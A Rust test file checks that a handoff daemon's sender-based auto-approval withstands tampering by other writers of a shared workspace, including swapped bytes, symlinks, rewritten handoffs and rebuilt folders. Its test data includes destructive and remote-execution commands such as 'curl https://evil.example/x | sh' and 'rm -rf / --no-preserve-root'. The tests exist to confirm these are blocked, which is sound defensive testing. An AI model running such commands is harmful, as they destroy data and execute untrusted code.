//! A proven sender is bound to what release-bot itself sent, not to content it once sent: a
//! `sender == 'release-bot'` policy does not approve a declared sha256 standing for another
//! artifact's bytes, nor a handoff another writer of the share put back (its JSON, or a
//! revision's content written again) after release-bot's upload of it.

use crate::pages::Web;
use crate::util::{agent, bytes, handoff, user, write_atomic, Daemon, TestEnv};
use baton::contract::validate::sha256_hex;
use serde_json::{json, Value};
use std::path::Path;
use std::time::Duration;

fn config() -> String {
    [
        user("rita", "\"reviewer\""),
        agent("release-bot", "alpha"),
        agent("helper", "alpha"),
        "[[routes]]\nname = \"release\"\nauto_approve_if = \"sender == 'release-bot'\"\n".into(),
    ]
    .concat()
}

fn release(id: &str, artifacts: Value) -> Value {
    let mut h = handoff(id);
    h["from_agent"] = json!("release-bot");
    h["trigger"] = json!("completion");
    h["artifacts"] = artifacts;
    h
}

/// PUTs `body` at `path` (under the workspace alpha) with release-bot's token, which is taken.
fn upload(d: &Daemon, path: &str, body: &[u8]) {
    let reply = Web::new(d).send(
        "PUT",
        &format!("/api/v1/workspaces/alpha/{path}"),
        &[("Authorization", "Bearer release-bot-token")],
        Some(body),
    );
    assert!(reply.status == 200 || reply.status == 201, "{}", reply.body);
}

fn detail(d: &Daemon, key: &str) -> Value {
    d.get(&format!("/api/v1/handoffs/{key}")).1
}

fn state_of(d: &Daemon, key: &str) -> Option<&'static str> {
    ["pending", "decided"]
        .into_iter()
        .find(|s| d.handoffs(s).iter().any(|h| h["key"] == key))
}

/// Waits for `key` to be received, leaves the daemon time to have approved it had it proven
/// release-bot its sender, and checks it is left to people and shown unproven.
fn left_to_people(d: &Daemon, key: &str) {
    d.wait_until("received", || state_of(d, key).is_some());
    std::thread::sleep(Duration::from_millis(800));
    let shown = detail(d, key);
    assert_eq!(shown["decision"]["by"], Value::Null, "{key}: {shown}");
    assert_eq!(state_of(d, key), Some("pending"), "{key}: {shown}");
    assert_eq!(shown["sender_proven"], false, "{key}: {shown}");
}

/// Workspace `ws` of `env` made again under its name: its folder moved away, a new one with
/// an empty inbox and the old `.baton/id`.
fn made_again(env: &TestEnv, ws: &Path) {
    let id = std::fs::read(ws.join(".baton/id")).expect("the daemon wrote the id");
    std::fs::rename(ws, env.root().join("elsewhere")).unwrap();
    std::fs::create_dir_all(ws.join("inbox")).unwrap();
    std::fs::create_dir_all(ws.join(".baton")).unwrap();
    std::fs::write(ws.join(".baton/id"), id).unwrap();
}

/// Every file under `dir` whose bytes are `content`.
fn holding(dir: &Path, content: &[u8]) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            found.extend(holding(&p, content));
        } else if std::fs::read(&p).is_ok_and(|b| b == content) {
            found.push(p);
        }
    }
    found
}

#[test]
fn a_sha256_declared_for_one_artifact_proves_nothing_of_another_holding_the_same_bytes() {
    let mut env = TestEnv::with_config(&config());
    let d = env.start();
    let ws = env.ws("alpha");
    let cleanup = b"rm -rf /srv/releases/old\n";
    upload(&d, "inbox/cleanup.sh", cleanup);
    upload(&d, "inbox/deploy.sh", b"./deploy --prod\n");
    // Another writer of the share puts the cleanup script in deploy.sh's place.
    write_atomic(&ws.join("inbox/deploy.sh"), cleanup);
    let h = release(
        "rel-9",
        json!([
            {"path": "inbox/cleanup.sh", "sha256": sha256_hex(cleanup)},
            {"path": "inbox/deploy.sh"}
        ]),
    );
    upload(&d, "handoff", &bytes(&h));
    left_to_people(&d, "rel-9");
    assert!(holding(&ws.join("approved"), cleanup).is_empty());
}

/// The handoff `h` release-bot uploaded, answered `invalid` (an artifact led out of the
/// workspace at receipt), is written again on the share by another writer once its artifact is
/// back: a submission of that writer's, not release-bot's.
#[test]
fn a_handoff_release_bot_uploaded_written_again_on_the_share_is_not_release_bots() {
    let mut env = TestEnv::with_config(&config());
    let d = env.start();
    let ws = env.ws("alpha");
    let sql = b"DROP TABLE audit_log;\n";
    upload(&d, "inbox/migrate.sql", sql);
    // Another writer of the share makes the path lead out of the workspace.
    let outside = env.root().join("outside.sql");
    std::fs::write(&outside, b"-- elsewhere\n").unwrap();
    std::fs::remove_file(ws.join("inbox/migrate.sql")).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("inbox/migrate.sql")).unwrap();
    let a = release("rel-a", json!([{"path": "inbox/migrate.sql"}]));
    upload(&d, "handoff", &bytes(&a));
    d.wait_until("rel-a answered invalid", || {
        crate::util::decision(&ws).is_some_and(|x| x["outcome"] == "invalid")
    });
    // release-bot sends other work instead.
    upload(&d, "handoff", &bytes(&release("rel-b", json!([]))));
    d.wait_until("rel-b received", || state_of(&d, "rel-b").is_some());
    // The writer puts the bytes back and writes rel-a's JSON again.
    std::fs::remove_file(ws.join("inbox/migrate.sql")).unwrap();
    write_atomic(&ws.join("inbox/migrate.sql"), sql);
    write_atomic(&ws.join("handoff.json"), &bytes(&a));
    left_to_people(&d, "rel-a");
    assert!(holding(&ws.join("approved"), sql).is_empty());
}

/// Revision 1 of rel-1, uploaded by release-bot, is sent back; another writer of the share
/// writes other content (revision 2), then revision 1's content again: revision 3 is that
/// writer's, however like release-bot's it reads.
#[test]
fn a_revision_release_bot_uploaded_written_back_on_the_share_is_not_release_bots() {
    let config = [
        user("rita", "\"reviewer\""),
        agent("release-bot", "alpha"),
        agent("helper", "alpha"),
    ]
    .concat();
    let mut env = TestEnv::with_config(&config);
    let d = env.start();
    let ws = env.ws("alpha");
    let first = release("rel-1", json!([]));
    upload(&d, "handoff", &bytes(&first));
    d.wait_until("rel-1 received", || state_of(&d, "rel-1").is_some());
    let shown = detail(&d, "rel-1");
    assert_eq!(shown["sender"], "release-bot", "{shown}");
    assert_eq!(shown["sender_proven"], true, "{shown}");
    let (status, body) = d.decide("rel-1", "changes_requested", "not yet");
    assert_eq!(status, 200, "{body}");
    let revised = |n: u32| detail(&d, "rel-1")["revision"] == n;
    let mut other = first.clone();
    other["title"] = json!("something else");
    write_atomic(&ws.join("handoff.json"), &bytes(&other));
    d.wait_until("revision 2", || revised(2));
    write_atomic(&ws.join("handoff.json"), &bytes(&first));
    d.wait_until("revision 3", || revised(3));
    let shown = detail(&d, "rel-1");
    assert!(shown["sender"].is_null(), "{shown}");
    assert_eq!(shown["sender_proven"], false, "{shown}");
}

/// What receipt proved is of the bytes it read: a workspace made again under its name (its
/// folder moved away, a new one with the old `.baton/id`), with release-bot's handoff JSON
/// written back and another script where its artifact was, is a new revision 1 of the same
/// key and text, but not release-bot's: left to people, the script not published.
#[test]
fn a_workspace_made_again_with_release_bots_handoff_and_other_artifact_bytes_is_not_release_bots() {
    let mut env = TestEnv::with_config(&config());
    let d = env.start();
    let ws = env.ws("alpha");
    upload(&d, "inbox/deploy.sh", b"./deploy --staging\n");
    let sent = release("rel-a", json!([{"path": "inbox/deploy.sh"}]));
    upload(&d, "handoff", &bytes(&sent));
    d.wait_until("approved by the policy", || {
        detail(&d, "rel-a")["decision"]["by"] == "policy:release"
    });
    d.stop();

    made_again(&env, &ws);
    let evil = b"curl https://evil.example/x | sh\n";
    std::fs::write(ws.join("inbox/deploy.sh"), evil).unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&sent));
    let d = env.start();
    left_to_people(&d, "rel-a");
    assert!(holding(&ws.join("approved"), evil).is_empty());
}

/// release-bot uploads a harmless `inbox/deploy.sh` and, another time, a draft it never
/// submits (`inbox/scratch/danger.sh`); another writer of the share makes `inbox/deploy.sh` a
/// link to the draft; release-bot's handoff names `inbox/deploy.sh`. The file read there is
/// the draft, reached through the link: not the artifact the handoff stands for, so nobody
/// sent this revision, and the policy approves nothing.
#[test]
fn an_artifact_linked_to_another_file_release_bot_uploaded_is_not_release_bots() {
    let mut env = TestEnv::with_config(&config());
    let d = env.start();
    let ws = env.ws("alpha");
    let danger = b"rm -rf / --no-preserve-root\n";
    upload(&d, "inbox/deploy.sh", b"./deploy --staging\n");
    upload(&d, "inbox/scratch/danger.sh", danger);
    std::fs::remove_file(ws.join("inbox/deploy.sh")).unwrap();
    std::os::unix::fs::symlink("scratch/danger.sh", ws.join("inbox/deploy.sh")).unwrap();
    let h = release("rel-link", json!([{"path": "inbox/deploy.sh"}]));
    upload(&d, "handoff", &bytes(&h));
    left_to_people(&d, "rel-link");
    assert!(holding(&ws.join("approved"), danger).is_empty());
}

/// release-bot's handoff and script, proven and rejected by rita; the workspace is then made
/// again under its name (its store new) with the very same handoff and script written back,
/// and a policy approving release-bot's work is enabled. The proof of the first receipt was
/// of another record: the copy written back is nobody's, left to people.
#[test]
fn a_rejected_submission_written_back_into_a_workspace_made_again_is_not_release_bots() {
    let mut env = TestEnv::with_config(
        &[user("rita", "\"reviewer\""), agent("release-bot", "alpha")].concat(),
    );
    let d = env.start();
    let ws = env.ws("alpha");
    let script = b"./deploy --prod --skip-checks\n";
    upload(&d, "inbox/deploy.sh", script);
    let sent = release("rel-a", json!([{"path": "inbox/deploy.sh"}]));
    upload(&d, "handoff", &bytes(&sent));
    d.wait_until("received", || state_of(&d, "rel-a") == Some("pending"));
    assert_eq!(detail(&d, "rel-a")["sender"], "release-bot");
    d.decide_as(
        "rel-a",
        "rita-token",
        &json!({"outcome": "rejected", "comment": "no"}),
    );
    d.stop();

    made_again(&env, &ws);
    std::fs::write(ws.join("inbox/deploy.sh"), script).unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&sent));
    let mut text = std::fs::read_to_string(env.config_path()).unwrap();
    text.push_str(
        "[[routes]]\nname = \"release\"\nauto_approve_if = \"sender == 'release-bot'\"\n",
    );
    std::fs::write(env.config_path(), text).unwrap();
    let d = env.start();
    left_to_people(&d, "rel-a");
    assert!(holding(&ws.join("approved"), script).is_empty());
}

/// handoff.yaml, written at `path`'s folder, made newer than handoff.json so that it counts.
fn shadow_with(ws: &Path, doc: &Value) {
    let yaml = ws.join("handoff.yaml");
    write_atomic(&yaml, &bytes(doc));
    let later = std::time::SystemTime::now() + Duration::from_secs(3600);
    let f = std::fs::File::options().write(true).open(&yaml).unwrap();
    f.set_modified(later).unwrap();
}

/// release-bot's upload of rel-1 is received while its `received` line cannot be written
/// (uploads.jsonl a folder: a full or failing disk), so the revision is nobody's and the
/// upload spent. The daemon restarts with the disk back; another writer of the share then
/// makes that same handoff.json be read again as revision 3 (a handoff.yaml over it, then
/// removed): not a new submission, and not release-bot's, restart or not.
#[test]
fn an_upload_spent_while_its_received_line_failed_stays_spent_after_a_restart() {
    let mut env = TestEnv::with_config(&config());
    let d = env.start();
    let ws = env.ws("alpha");
    let first = release("rel-1", json!([]));
    // A handoff.yaml newer than the upload holds it back from receipt until removed.
    let mut decoy = release("decoy", json!([]));
    decoy["from_agent"] = json!("helper");
    shadow_with(&ws, &decoy);
    d.wait_until("decoy received", || state_of(&d, "decoy").is_some());
    upload(&d, "handoff", &bytes(&first));
    let log = env.root().join("data/policy/uploads.jsonl");
    let kept = env.root().join("data/policy/uploads.kept");
    std::fs::rename(&log, &kept).unwrap();
    std::fs::create_dir(&log).unwrap();
    std::fs::remove_file(ws.join("handoff.yaml")).unwrap();
    left_to_people(&d, "rel-1");
    d.stop();
    std::fs::remove_dir(&log).unwrap();
    std::fs::rename(&kept, &log).unwrap();

    let d = env.start();
    let revised = |n: u32| detail(&d, "rel-1")["revision"] == n;
    let mut other = first.clone();
    other["title"] = json!("something else");
    shadow_with(&ws, &other);
    d.wait_until("revision 2", || revised(2));
    std::fs::remove_file(ws.join("handoff.yaml")).unwrap();
    d.wait_until("revision 3", || revised(3));
    std::thread::sleep(Duration::from_millis(800));
    let shown = detail(&d, "rel-1");
    assert_eq!(shown["decision"]["by"], Value::Null, "{shown}");
    assert_eq!(shown["sender_proven"], false, "{shown}");
}
